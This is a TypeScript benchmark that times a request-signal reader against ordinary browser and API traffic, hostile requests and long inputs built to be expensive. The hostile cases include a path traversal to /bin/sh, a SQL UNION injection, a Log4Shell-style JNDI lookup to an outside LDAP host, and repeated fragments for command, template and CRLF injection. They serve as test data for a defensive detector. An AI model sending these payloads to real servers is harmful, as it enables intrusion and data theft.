/**
 * What it costs in processor time to read the signals of a request: ordinary ones as a browser and a program send them,
 * hostile ones, and targets of 8 kB that are made to cost as much as they can. Each request has texts of its own, as from
 * a socket.
 *
 *   npm run bench -- signals
 */
import { cpus } from 'node:os';
import type { RequestFacts } from '../src/signals/request-facts.js';
import { createSignalReader } from '../src/signals/signal-reader.js';
import { median, printTable } from './support/figures.js';

const ROUNDS = 9;
/** Requests a round; of the long ones, as many characters. */
const REQUESTS = 40_000;
const LONG = 8_192;

/** A flat copy in memory of its own: nothing that was found out about one text helps with the next. */
function fresh(text: string): string {
  return Buffer.from(text, 'latin1').toString('latin1');
}

const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'okhttp/4.12.0',
];

const SITE = 'shop.example';

function factsOf(target: string, i: number, more: Partial<RequestFacts> = {}): RequestFacts {
  return {
    method: 'GET',
    target: fresh(target),
    host: fresh(SITE),
    routePattern: null,
    isSensitive: false,
    isLogin: false,
    outcome: 'served',
    status: 200,
    userAgent: fresh(AGENTS[i % AGENTS.length]!),
    referer: null,
    secFetchMode: null,
    secFetchDest: null,
    secFetchSite: null,
    secFetchUser: null,
    accept: null,
    responseType: 'application/json; charset=utf-8',
    reported: null,
    ...more,
  };
}

function repeated(piece: string, length: number): string {
  return piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
}

interface Case {
  name: string;
  count: number;
  make(i: number): RequestFacts;
}

const FETCHED: Partial<RequestFacts> = {
  referer: `https://${SITE}/orders?page=2`,
  secFetchMode: 'cors',
  secFetchDest: 'empty',
  secFetchSite: 'same-origin',
};

const ORDINARY: Case[] = [
  {
    name: 'path of an API',
    count: REQUESTS,
    make: (i) =>
      factsOf(`/api/v1/users/${i}/orders`, i, { routePattern: '/api/v1/users/:id/orders' }),
  },
  {
    name: 'with a query and a referer',
    count: REQUESTS,
    make: (i) =>
      factsOf(`/api/v1/orders?page=${i}&sort=created_at&dir=desc`, i, {
        routePattern: '/api/v1/orders',
        ...FETCHED,
        referer: fresh(FETCHED.referer!),
      }),
  },
  {
    name: 'an asset',
    count: REQUESTS,
    make: (i) =>
      factsOf(`/assets/index-${i.toString(36)}.js`, i, {
        responseType: 'text/javascript',
        referer: fresh(`https://${SITE}/`),
        secFetchMode: 'no-cors',
        secFetchDest: 'script',
        secFetchSite: 'same-origin',
      }),
  },
  {
    name: 'a search, escaped',
    count: REQUESTS,
    make: (i) =>
      factsOf(`/search?q=O%27Reilly+caf%C3%A9+${i}&lang=en`, i, { routePattern: '/search' }),
  },
  {
    name: 'the same with a new agent each time',
    count: REQUESTS,
    make: (i) =>
      factsOf(`/api/v1/users/${i}/orders`, i, {
        routePattern: '/api/v1/users/:id/orders',
        userAgent: fresh(`${AGENTS[i % 4]!} build/${i}`),
      }),
  },
];

const MISSED = { outcome: 'unmatched', status: 404, responseType: 'application/json' } as const;

const HOSTILE: Case[] = [
  ['a probe', '/wp-login.php'],
  ['an escaped probe', '/%2e%65nv?x=1'],
  ['a traversal', '/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh'],
  ['SQL in a value', '/item?id=1%27%20UNION%20SELECT%20null,version(),null--%20-&page=2'],
  ['JNDI in a value', '/?x=${${lower:j}ndi:${lower:l}dap://203.0.113.7/a}'],
].map(([name, target]) => ({
  name: name!,
  count: REQUESTS,
  make: (i) => factsOf(target!, i, MISSED),
}));

/** What stands before the pieces, and the piece that is repeated. */
const PIECES: readonly (readonly [name: string, start: string, piece: string])[] = [
  ['letters', '/', 'a'],
  ['segments', '', '/a'],
  ['segments that begin an entry', '', '/actuator'],
  ['ups', '', '/..'],
  ['escapes', '/', '%61'],
  ['escapes of escapes', '/', '%2561'],
  ['parameters', '/?', 'a=1&'],
  ['parameters with a quote', '/?', "a='&"],
  ['parameters escaped twice', '/?', 'a=%2527&'],
  ['quotes', '/?a=', "'"],
  ['breaks and numbers', '/?a=', "' or 1 "],
  ['selects', '/?a=', 'union select '],
  ['open lookups', '/?a=', '${lower:'],
  ['templates', '/?a=', '{{7*'],
  ['separators', '/?a=', ';cat '],
  ['elements', '/?a=', '<a '],
  ['line breaks', '/?a=', '%0d%0aa'],
];

/** The same at half the length: what is linear costs half. */
const LONGEST: Case[] = PIECES.flatMap(([name, start, piece]) =>
  [LONG, LONG / 2].map((length) => ({
    name: `${name} ${length}`,
    count: 40,
    make: (i) => factsOf(start + repeated(piece, length), i, MISSED),
  })),
);

/** Nanoseconds of processor time a request, of requests that are made beforehand. */
function nsEach(requests: readonly RequestFacts[], times: number): number {
  let sum = 0;
  const start = process.cpuUsage();
  for (let time = 0; time < times; time++) for (const facts of requests) sum ^= read(facts);
  const { user, system } = process.cpuUsage(start);
  if (!Number.isInteger(sum)) throw new Error('unreachable, and keeps the loop');
  return ((user + system) * 1_000) / (requests.length * times);
}

const read = createSignalReader();
const all = [...ORDINARY, ...HOSTILE, ...LONGEST];
const results = new Map(all.map(({ name }) => [name, [] as number[]]));
for (let round = -2; round < ROUNDS; round++) {
  for (const { name, count, make } of all) {
    const requests = Array.from({ length: count }, (_, i) => make(i));
    const value = nsEach(requests, count === REQUESTS ? 1 : 5);
    // The first rounds are the compiler's.
    if (round >= 0) results.get(name)!.push(value);
  }
}

function table(title: string, cases: readonly Case[]): void {
  printTable([
    [title, 'ns', 'worst'],
    ...cases.map(({ name }) => {
      const values = results.get(name)!;
      return [name, median(values).toFixed(0), Math.max(...values).toFixed(0)];
    }),
  ]);
  process.stdout.write('\n');
}

process.stdout.write(
  `${cpus()[0]?.model ?? 'unknown processor'}, Node ${process.version}, ${ROUNDS} rounds\n\n`,
);
table('ordinary', ORDINARY);
table('hostile', HOSTILE);
printTable([
  ['8 kB', 'ns', 'worst', 'x 4 kB'],
  ...PIECES.map(([name]) => {
    const values = results.get(`${name} ${LONG}`)!;
    const half = median(results.get(`${name} ${LONG / 2}`)!);
    const value = median(values);
    return [name, value.toFixed(0), Math.max(...values).toFixed(0), (value / half).toFixed(2)];
  }),
]);
